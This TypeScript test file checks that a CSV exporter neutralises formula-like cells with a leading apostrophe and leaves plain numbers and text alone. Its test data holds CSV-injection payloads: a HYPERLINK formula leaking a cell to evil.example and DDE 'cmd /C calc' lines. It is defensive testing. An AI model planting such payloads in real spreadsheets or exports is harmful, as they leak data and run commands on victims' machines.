import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvNumber, csvQuote, excelCsv, neutraliseCell, restoreCell } from '../../src/csv.js';

// CSV injection (issue 13): the export wrote =HYPERLINK(…), =cmd|' /C calc'!A0 and @SUM(…) raw.
// Each cell a spreadsheet would run now starts with ' (text); a plain negative number stays a number.

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '+7 495 800-10-20',
  '-2+3+cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '-1+1',
  '-',
];

describe('CSV cells', () => {
  it('neutralises every cell that starts like a formula, and reads it back unchanged', () => {
    for (const h of HOSTILE) {
      const cell = neutraliseCell(h);
      expect(cell, JSON.stringify(h)).toBe(`'${h}`);
      expect(restoreCell(cell)).toBe(h);
    }
  });

  it('leaves plain negative numbers, ordinary text and a lone apostrophe alone', () => {
    for (const s of ['-1234,5', '-7', '-0.25', csvNumber(-1500000.5), 'Иванов', '1 500 000', "'quoted", "O'Brien", 'a=b', 'mail@example.ru', '']) {
      expect(neutraliseCell(s), s).toBe(s);
      expect(restoreCell(s), s).toBe(s);
    }
  });

  it('writes a file whose every hostile cell a parser reads as text with the apostrophe, and numbers as numbers', () => {
    const text = excelCsv([['name', 'amount'], ...HOSTILE.map((h, i) => [h, csvNumber(-i - 0.5)])]);
    const rows = parse(text.slice(1), { delimiter: ';' }) as string[][];
    expect(rows.slice(1).map((r) => r[0])).toEqual(HOSTILE.map((h) => `'${h}`));
    expect(rows.slice(1).map((r) => r[1])).toEqual(HOSTILE.map((_, i) => String(-i - 0.5).replace('.', ',')));
    // No line of the file starts a cell with a formula character.
    for (const cell of rows.flat()) expect(/^[=+@\t\r]/.test(cell) || /^-(?!\d+(,\d+)?$)/.test(cell), JSON.stringify(cell)).toBe(false);
    expect(csvQuote('=1;2')).toBe(`"'=1;2"`);
  });
});
